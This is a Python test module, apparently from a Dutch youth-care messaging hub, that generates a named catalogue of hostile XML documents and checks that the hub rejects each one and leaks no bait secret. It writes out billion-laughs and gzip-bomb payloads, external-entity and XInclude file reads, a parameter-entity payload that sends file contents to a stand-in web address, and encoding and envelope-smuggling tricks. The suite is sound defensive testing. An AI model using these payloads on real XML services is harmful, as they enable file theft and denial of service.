"""Documents that attack whoever reads them, one of every kind known of XML, written here."""

from __future__ import annotations

import gzip
import zlib
from typing import NamedTuple

from tests import bouw
from tests.vijandig.lokaas import GEHEIM, Lokaas

MB = 1024 * 1024
BERICHT = bouw.jw315()
AFGEKEURD = bouw.jw315(referentie="")
"""A message that must be explained: that is another engine (xmlschema) than the one that judges."""

_XSI = ' xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" '


class Aanval(NamedTuple):
    """A document, and what the hub says of it."""

    inhoud: bytes
    reden: str
    """Part of the first finding; empty when the document is a valid message and the attack falls on deaf ears."""


def _doctype(binnen: str, in_bericht: str = "x") -> bytes:
    """Put a DOCTYPE before a valid message, and a reference to what it declares in its text."""
    bericht = BERICHT.decode().replace("Testpersoon", in_bericht)
    return bericht.replace("<m:Bericht", f"<!DOCTYPE m:Bericht {binnen}>\n<m:Bericht", 1).encode()


def _wortel(bericht: bytes, erbij: str) -> bytes:
    return bericht.replace(b"<m:Bericht ", b"<m:Bericht" + erbij.encode(), 1)


def _in_naam(inhoud: str) -> bytes:
    return BERICHT.replace(b"Testpersoon", inhoud.encode())


def _lach(keer: int) -> str:
    entiteiten = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, keer))
    return f'[<!ENTITY l0 "haha">{entiteiten}]'


def _breid_uit(diepte: int) -> bytes:
    """Compress nothing but repetition, and that again."""
    bom = b"<a>" + b" " * (64 * MB)
    for _ in range(diepte):
        bom = gzip.compress(bom)
    return bom


def aanvallen(aas: Lokaas) -> dict[str, Aanval]:
    """Give every attack by its name; those that reach out, reach for the bait."""
    return {**_entiteiten(aas), **_verwijzingen(aas), **_omvang(), **_coderingen(aas), **_envelop(aas)}


def _entiteiten(aas: Lokaas) -> dict[str, Aanval]:
    vormen = {
        "miljard keer lachen": _doctype(_lach(10), "&l9;"),
        "kwadratisch": _doctype(f'[<!ENTITY q "{"q" * 100_000}">]', "&q;" * 20_000),
        "in een attribuut": _doctype('[<!ATTLIST Bericht a CDATA "&l;"><!ENTITY l "x">]'),
        "naar zichzelf": _doctype('[<!ENTITY a "&b;"><!ENTITY b "&a;">]', "&a;"),
        "externe entiteit, bestand": _doctype(f'[<!ENTITY x SYSTEM "{aas.url}">]', "&x;"),
        "externe entiteit, pad": _doctype(f'[<!ENTITY x SYSTEM "{aas.bestand}">]', "&x;"),
        "externe entiteit, web": _doctype(f'[<!ENTITY x SYSTEM "{aas.http}">]', "&x;"),
        "externe entiteit, niet gebruikt": _doctype(f'[<!ENTITY x SYSTEM "{aas.http}">]'),
        "externe entiteit, PUBLIC": _doctype(f'[<!ENTITY x PUBLIC "-//x//EN" "{aas.http}">]', "&x;"),
        "externe entiteit, ongelezen soort": _doctype(f'[<!NOTATION n SYSTEM "{aas.http}"><!ENTITY x SYSTEM "{aas.url}" NDATA n>]'),
        "parameterentiteit, bestand": _doctype(f'[<!ENTITY % x SYSTEM "{aas.url}"> %x;]'),
        "parameterentiteit, web": _doctype(f'[<!ENTITY % x SYSTEM "{aas.http}"> %x;]'),
        "parameterentiteit die stuurt": _doctype(
            f"[<!ENTITY % f SYSTEM \"{aas.url}\"><!ENTITY % e \"<!ENTITY &#37; s SYSTEM '{aas.http}?%f;'>\"> %e; %s;]"
        ),
        "DTD van het web": _doctype(f'SYSTEM "{aas.http}"'),
        "DTD uit een bestand": _doctype(f'PUBLIC "-//W3C//DTD XHTML 1.0//EN" "{aas.url}"'),
        "DTD die er maar staat": _doctype(""),
        "DTD na commentaar": BERICHT.replace(b"<m:B", b'<!-- --><?p?><!DOCTYPE b [<!ENTITY x "y">]><m:B', 1),
    }  # fmt: skip
    gevallen = {naam: Aanval(inhoud, "DOCTYPE") for naam, inhoud in vormen.items()}
    gevallen["DTD in kleine letters"] = Aanval(BERICHT.replace(b"<m:B", b"<!doctype b><m:B", 1), "los '<'")
    gevallen["DTD midden in het bericht"] = Aanval(_in_naam(f'<!DOCTYPE b SYSTEM "{aas.http}">'), "los '<'")
    gevallen["entiteit zonder DTD"] = Aanval(_in_naam("&x;"), "entiteit")
    return gevallen


def _verwijzingen(aas: Lokaas) -> dict[str, Aanval]:
    xinclude = 'xmlns:xi="http://www.w3.org/2001/XInclude"'
    stijl = f'<?xml-stylesheet type="text/xsl" href="{aas.http}"?>'
    xsl = (
        '<x:stylesheet version="1.0" xmlns:x="http://www.w3.org/1999/XSL/Transform"><x:template match="/">'
        f"<x:copy-of select=\"document('{aas.url}')\"/></x:template></x:stylesheet>"
    )
    plaats = f'{_XSI}xsi:schemaLocation="{bouw.namespace("JW315")} {aas.http} {bouw.BASIS} {aas.url}" '
    los = f'{_XSI}xsi:noNamespaceSchemaLocation="{aas.http}" '
    return {
        "xinclude, bestand": Aanval(_in_naam(f'<xi:include {xinclude} parse="text" href="{aas.url}"/>'), "alleen een waarde"),
        "xinclude, web": Aanval(_in_naam(f'<xi:include {xinclude} href="{aas.http}"/>'), "alleen een waarde"),
        "stijlblad van het web": Aanval(BERICHT.replace(b"<m:B", stijl.encode() + b"<m:B", 1), ""),
        "stijlblad als document": Aanval(xsl.encode(), "geen iJW-bericht"),
        "php en ander programma": Aanval(_in_naam(f"<?php readfile('{aas.bestand}')?>x"), ""),
        "schemaLocation": Aanval(_wortel(BERICHT, plaats), ""),
        "schemaLocation bij een fout": Aanval(_wortel(AFGEKEURD, plaats), "ReferentieAanbieder"),
        "noNamespaceSchemaLocation bij een fout": Aanval(_wortel(AFGEKEURD, los), "ReferentieAanbieder"),
        "xml:base": Aanval(_wortel(AFGEKEURD, f' xml:base="{aas.url}" '), "attribuut"),
        "naamruimte is een adres": Aanval(f'<a xmlns="{aas.http}"/>'.encode(), "geen iJW-bericht"),
        "naamruimte is een bestand": Aanval(f'<a xmlns="{aas.url}"/>'.encode(), "geen iJW-bericht"),
        "xsi:type": Aanval(_in_naam(f'x</ijw:Achternaam><y{_XSI}xsi:type="z"/><ijw:Achternaam>'), "kent iJW niet"),
    }  # fmt: skip


def _omvang() -> dict[str, Aanval]:
    return {
        "attribuut van 11 MB": Aanval(b'<a b="' + b"x" * (11 * MB) + b'"/>', "te lange waarde"),
        "duizend attributen": Aanval(b"<a " + b" ".join(b'a%d="%s"' % (n, b"x" * 150) for n in range(1_000)) + b"/>", "100 attributen"),
        "duizend naamruimten": Aanval(b"<a " + b" ".join(b'xmlns:a%d="u:%d"' % (n, n) for n in range(1_000)) + b"/>", "geen iJW-bericht"),
        "naam van een halve MB": Aanval(b"<" + b"a" * (MB // 2) + b"/>", "te lange waarde"),
        "300 diep": Aanval(b"<a>" * 300 + b"</a>" * 300, "te diep"),
        "een miljoen diep": Aanval(b"<a>" * 1_000_000, "te diep"),
        "twee miljoen tags": Aanval(b"<a>" + b"<b/>" * 2_000_000 + b"</a>", "tags"),
        "commentaar van 11 MB": Aanval(BERICHT.replace(b"<m:B", b"<!--" + b"x" * (11 * MB) + b"--><m:B", 1), "welgevormde"),
        "26 MB": Aanval(b"<a>" + b"x" * (26 * MB) + b"</a>", "25 MB"),
        "waarde van 9 MB": Aanval(_in_naam("9" * (9 * MB)), "Achternaam"),
        "gzip-bom": Aanval(_breid_uit(1), "gzip"),
        "gzip in gzip": Aanval(_breid_uit(3), "gzip"),
        "zlib": Aanval(zlib.compress(BERICHT), "geen XML"),
    }  # fmt: skip


def _coderingen(aas: Lokaas) -> dict[str, Aanval]:
    aanval = _doctype(f'[<!ENTITY x SYSTEM "{aas.url}">]', "&x;").decode()

    def als(naam: str) -> bytes:
        return aanval.replace("UTF-8", naam).encode(naam)

    return {
        "utf-7": Aanval(als("utf-7"), "niet in UTF-8"),
        "utf-7 verzwegen": Aanval(b"+ADw-m:Bericht+AD4-", "geen XML"),
        "utf-16": Aanval(als("utf-16"), "UTF-16"),
        "utf-16 verkeerd om": Aanval(als("utf-16-be"), "UTF-16"),
        "utf-16 dat utf-8 zegt": Aanval(aanval.encode("utf-16-le"), "UTF-16"),
        "utf-8 dat utf-16 zegt": Aanval(aanval.replace("UTF-8", "UTF-16").encode(), "niet in UTF-8"),
        "utf-32": Aanval(als("utf-32"), "UTF-16 of UTF-32"),
        "ebcdic": Aanval(aanval.replace("UTF-8", "IBM037").encode("cp037"), "geen XML"),
        "ebcdic met bom": Aanval(b"\xdd\x73\x66\x73" + aanval.encode("cp037"), "geen XML"),
        "latin-1": Aanval(aanval.replace("UTF-8", "ISO-8859-1").encode("latin-1"), "niet in UTF-8"),
        "onbekende codering": Aanval(aanval.replace("UTF-8", "rot13").encode(), "niet in UTF-8"),
        "bom voor doctype": Aanval(b"\xef\xbb\xbf" + aanval.encode(), "DOCTYPE"),
        "twee boms": Aanval(b"\xef\xbb\xbf\xef\xbb\xbf" + BERICHT, "geen XML"),
        "NUL": Aanval(_in_naam("a\x00b"), "NUL"),
        "NUL achteraan": Aanval(BERICHT + b"\x00" + aanval.encode(), "NUL"),
        "te lang geschreven teken": Aanval(BERICHT.replace(b"Testpersoon", b"\xc0\xbc!DOCTYPE"), "geen UTF-8"),
        "los surrogaat": Aanval(BERICHT.replace(b"Testpersoon", b"\xed\xa0\x80"), "geen UTF-8"),
        "verboden teken": Aanval(_in_naam("a\x08b"), "teken dat in XML niet mag"),
        "verboden teken, verwezen": Aanval(_in_naam("a&#8;b"), "XML"),
    }  # fmt: skip


def _envelop(aas: Lokaas) -> dict[str, Aanval]:
    """Put attacks within the base64 of an envelope, and around it."""
    binnen = _doctype(f'[<!ENTITY x SYSTEM "{aas.url}">]', "&x;")
    lachend = _doctype(_lach(10), "&l9;")
    xop = f'<xop:Include xmlns:xop="http://www.w3.org/2004/08/xop/include" href="{aas.http}"/>'

    def buiten(envelop: bytes, doctype: str) -> bytes:
        return envelop.replace(b"<e:Env", f"<!DOCTYPE e [{doctype}]><e:Env".encode(), 1)

    soap = bouw.envelop(BERICHT, soap=True)
    return {
        "entiteit in een envelop": Aanval(bouw.envelop(binnen), "DOCTYPE"),
        "entiteit in SOAP": Aanval(bouw.envelop(lachend, soap=True), "DOCTYPE"),
        "entiteit om SOAP": Aanval(buiten(soap, f'<!ENTITY x SYSTEM "{aas.http}">'), "DOCTYPE"),
        "entiteit als base64": Aanval(buiten(bouw.envelop(b"", inhoud="&x;", soap=True), f'<!ENTITY x SYSTEM "{aas.url}">'), "DOCTYPE"),
        "gzip-bom in een envelop": Aanval(bouw.envelop(_breid_uit(1)), "gzip"),
        "utf-16 in een envelop": Aanval(bouw.envelop(binnen.decode().encode("utf-16")), "UTF-16"),
        "bijlage van elders": Aanval(bouw.envelop(b"", inhoud=xop), "geen bericht"),
        "envelop in een envelop": Aanval(bouw.envelop(bouw.envelop(BERICHT)), "andere envelop"),
        "base64 van een pad": Aanval(bouw.envelop(b"", inhoud=str(aas.bestand)), "base64"),
    }  # fmt: skip


def verraadt_niets(*teksten: str | bytes) -> None:
    """Assert that what stands in the file stands in none of these."""
    for tekst in teksten:
        assert GEHEIM not in (tekst if isinstance(tekst, str) else tekst.decode("utf-8", "replace"))
